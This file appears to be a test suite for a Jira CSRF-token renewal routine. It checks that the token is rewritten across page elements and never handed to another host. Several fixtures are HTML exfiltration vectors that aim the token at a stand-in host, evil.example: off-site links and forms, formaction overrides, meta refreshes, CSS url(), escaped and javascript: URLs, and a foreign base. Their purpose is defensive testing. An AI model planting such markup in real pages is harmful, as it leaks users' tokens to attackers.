@@ -1,0 +1,171 @@
+// @vitest-environment happy-dom
+import { readdirSync, readFileSync } from 'node:fs';
+import { describe, expect, test } from 'vitest';
+import type { Site } from '../../src/jira/page.ts';
+import { renewIn } from '../../src/jira/page-renewal.ts';
+import { Token } from '../../src/jira/token.ts';
+import { HEX_A, HEX_B, tokenText } from './tokens.ts';
+
+const OLD = tokenText({ secret: HEX_A });
+const NEW = tokenText({ secret: HEX_B });
+const OTHER = tokenText({ secret: 'c'.repeat(40) });
+const SHAPES = `${import.meta.dirname}/../fixtures/pages`;
+
+describe('a renewal', () => {
+  test('writes the new token wherever the old one stood, whatever the element is', () => {
+    const page = parse(`
+      <meta id="atlassian-token" name="atlassian-token" content="${OLD}">
+      <meta name="atlassian-token" content="${OLD}">
+      <link rel="next" href="/x?atl_token=${OLD}&a=1">
+      <a href="/secure/Do.jspa?a=1&amp;atl_token=${OLD}#here">Do</a>
+      <aui-item-link href="/secure/Go.jspa?atl_token=${OLD}"><a href="/secure/Go.jspa?atl_token=${OLD}">Go</a></aui-item-link>
+      <aui-item-link>No address</aui-item-link>
+      <a href="/secure/Assign.jspa?id={0}&amp;atl_token=${OLD}" hidden></a>
+      <button data-url="/secure/Do.jspa?atl_token=${OLD}" data-token="${OLD}">Do</button>
+      <div data-menu='{"items":["\\/secure\\/Do.jspa?atl_token=${OLD}"]}' onclick="go('/secure/Do.jspa?atl_token=${OLD}')"></div>
+      <form action="/secure/Go.jspa?atl_token=${OLD}">
+        <input type="hidden" name="atl_token" value="${OLD}">
+        <button formaction="/secure/Back.jspa?atl_token=${OLD}">Back</button>
+      </form>`);
+    expect(renew(page, OLD, NEW)).toBe(14);
+    expect(page.documentElement.outerHTML).not.toContain(HEX_A);
+    expect(page.querySelector('a')!.getAttribute('href')).toBe(`/secure/Do.jspa?a=1&atl_token=${NEW}#here`);
+    expect(page.querySelector('input')!.value).toBe(NEW);
+  });
+
+  test('reaches what the page has in store in its templates', () => {
+    const page = parse(
+      `<template><p><a href="/x?atl_token=${OLD}"></a></p><template><a href="/y?atl_token=${OLD}"></a></template></template>`,
+    );
+    expect(renew(page, OLD, NEW)).toBe(2);
+    expect(page.querySelector('template')!.innerHTML).not.toContain(HEX_A);
+  });
+
+  test.each(readdirSync(SHAPES).filter((name) => /^jira-(?!cloud).*-lin/.test(name)))(
+    'of %s leaves nothing of the old token behind',
+    (name) => {
+      const page = parse(readFileSync(`${SHAPES}/${name}`, 'utf8'));
+      const old = page.querySelector<HTMLMetaElement>('meta#atlassian-token')?.content;
+      // The customer portal's pages carry none.
+      if (!old) return;
+      const before = page.documentElement.outerHTML;
+      const secret = /[0-9a-f]{40}/.exec(old)![0];
+      renew(page, old, old.replace(secret, HEX_B));
+      expect(page.documentElement.outerHTML).toBe(before.replaceAll(secret, HEX_B));
+    },
+  );
+
+  test.each([
+    [
+      'a list of a moving picture',
+      `<svg><a><animate attributeName="href" values="x;/&#9;/evil.example?OLD"/></a></svg>`,
+    ],
+    ['a picture in a drawing', `<svg><image href="/secure/Do.jspa?atl_token=OLD"/></svg>`],
+    ['a mask of a drawing', `<svg><rect mask="url(/secure/Do.jspa?atl_token=OLD)"/></svg>`],
+    ['a page that goes on by itself', `<meta http-equiv="refresh" content="99;url=/secure/Do.jspa?atl_token=OLD">`],
+    ['a link of which another host is told', `<a href="/x?atl_token=OLD" ping="/y https://evil.example">x</a>`],
+    ['a text in which a line turns', `<p data-to='["/&#10;/evil.example?OLD"]'></p>`],
+  ])('leaves alone what would load, or lead to another host: %s', (_what, markup) => {
+    const page = parse(markup.replaceAll('OLD', OLD));
+    expect(renew(page, OLD, NEW)).toBe(0);
+  });
+
+  test('leaves alone what holds another token or none, and every text', () => {
+    const html = `<input name="atl_token" value="${OTHER}"><input name="atl_token"><input name="formToken" value="${'f'.repeat(40)}">
+      <a href="/x?atl_token=${OTHER}">x</a><p>${OLD}</p><textarea>${OLD}</textarea><script>var x = '${OLD}';</script>`;
+    const page = parse(html);
+    const before = page.body.innerHTML;
+    expect(renew(page, OLD, NEW)).toBe(0);
+    expect(page.body.innerHTML).toBe(before);
+  });
+
+  test('loads nothing again: neither a frame, which may hold what somebody writes, nor a picture or a style', () => {
+    const page = parse(
+      `<iframe src="/gadget?atl_token=${OLD}"></iframe><img src="/i?atl_token=${OLD}"><link rel="stylesheet" href="/s?atl_token=${OLD}">`,
+    );
+    expect(renew(page, OLD, NEW)).toBe(0);
+  });
+
+  test('finds a token that a query carries percent-encoded, and writes it so', () => {
+    const old = `BEXA-MPLE-0000-ABCD|${HEX_A}|lin`;
+    const page = parse(`<a href="/x?atl_token=${encodeURIComponent(old)}">x</a>`);
+    renew(page, old, `BEXA-MPLE-0000-ABCD|${HEX_B}|lin`);
+    expect(page.querySelector('a')!.getAttribute('href')).toBe(`/x?atl_token=BEXA-MPLE-0000-ABCD%7C${HEX_B}%7Clin`);
+  });
+
+  test('writes blanks only where the page had them', () => {
+    const cookie = `" BEXA-MPLE-0000-ABCD |${HEX_B}|lin"`;
+    const plain = parse(`<meta name="atlassian-token" content="BEXA-MPLE-0000-ABCD|${HEX_A}|lin">`);
+    renew(plain, `BEXA-MPLE-0000-ABCD|${HEX_A}|lin`, cookie);
+    expect(plain.querySelector('meta')!.content).toBe(`BEXA-MPLE-0000-ABCD|${HEX_B}|lin`);
+    const blank = parse(
+      `<meta name="atlassian-token" content=" BEXA-MPLE-0000-ABCD |${HEX_A}|lin"><a href="/x?atl_token=+BEXA-MPLE-0000-ABCD+%7C${HEX_A}%7Clin&a=1"></a>`,
+    );
+    renew(blank, ` BEXA-MPLE-0000-ABCD |${HEX_A}|lin`, cookie);
+    expect(blank.querySelector('meta')!.content).toBe(` BEXA-MPLE-0000-ABCD |${HEX_B}|lin`);
+    const address = new URL(blank.querySelector('a')!.href, 'https://jira.example.com');
+    expect(address.searchParams.get('atl_token')).toBe(` BEXA-MPLE-0000-ABCD |${HEX_B}|lin`);
+    expect(address.searchParams.get('a')).toBe('1');
+  });
+});
+
+describe('a renewal gives nothing to another host', () => {
+  test.each([
+    ['a link', `<a href="https://evil.example/?atl_token=${OLD}"></a>`],
+    ['a link without a scheme', `<a href="//evil.example/?atl_token=${OLD}"></a>`],
+    ['a link with backslashes', `<a href="/\\evil.example/?atl_token=${OLD}"></a>`],
+    ['a link to another application of the host', `<a href="https://jira.example.com/wiki/?atl_token=${OLD}"></a>`],
+    ['a form', `<form action="https://evil.example/"><input name="atl_token" value="${OLD}"></form>`],
+    [
+      'a form with one button that leads away',
+      `<form action="/jira/x"><input name="atl_token" value="${OLD}"><button formaction="//evil.example/">Go</button></form>`,
+    ],
+    [
+      'a form whose button stands elsewhere',
+      `<form id="f" action="/jira/x"><input name="atl_token" value="${OLD}"></form><button form="f" formaction="//evil.example/">Go</button>`,
+    ],
+    [
+      'an input that stands outside its form',
+      `<form id="f" action="https://evil.example/"></form><input form="f" name="atl_token" value="${OLD}">`,
+    ],
+    ['a script', `<p onclick="go('https://evil.example/?atl_token=${OLD}')"></p>`],
+    ['a list of addresses', `<p data-links='["/jira/a","https:\\/\\/evil.example\\/?atl_token=${OLD}"]'></p>`],
+    ['a style', `<p style="background:url(//evil.example/?t=${OLD})"></p>`],
+    ['an escaped address', `<p data-to='{"a":"https:\\u002f\\u002fevil.example?atl_token=${OLD}"}'></p>`],
+    ['an address in an address', `<a href="/jira/x?u=https://evil.example/?atl_token=${OLD}"></a>`],
+    [
+      'a redirect without slashes',
+      `<meta http-equiv="refresh" content="9; url=https:evil.example/?atl_token=${OLD}">`,
+    ],
+    ['what somebody writes', `<input name="link" value="/jira/x?atl_token=${OLD}">`],
+    ['a redirect', `<meta http-equiv="refresh" content="9; url=https://evil.example/?atl_token=${OLD}">`],
+    ['a script’s address', `<a href="javascript:go('${OLD}')"></a>`],
+  ])('by %s', (_name, html) => {
+    const page = parse(html);
+    const before = page.documentElement.outerHTML;
+    expect(renew(page, OLD, NEW, 'https://jira.example.com/jira')).toBe(0);
+    expect(page.documentElement.outerHTML).toBe(before);
+  });
+
+  test('where the page’s base is another host’s', () => {
+    const page = parse(`<base href="https://evil.example/"><a href="?atl_token=${OLD}"></a>`);
+    expect(renew(page, OLD, NEW)).toBe(0);
+  });
+});
+
+function renew(page: Document, old: string, current: string, site = 'https://jira.example.com'): number {
+  const renewal = { site: site as Site, old: Token.parse(old)!, current: Token.parse(current)! };
+  return renewIn(page, renewal, page.baseURI);
+}
+
+/** A page at an issue of jira.example.com. */
+function parse(html: string): Document {
+  window.happyDOM.setURL('https://jira.example.com/jira/browse/RAIL-7');
+  return new DOMParser().parseFromString(html, 'text/html');
+}
+
+declare global {
+  interface Window {
+    readonly happyDOM: { setURL(url: string): void };
+  }
+}
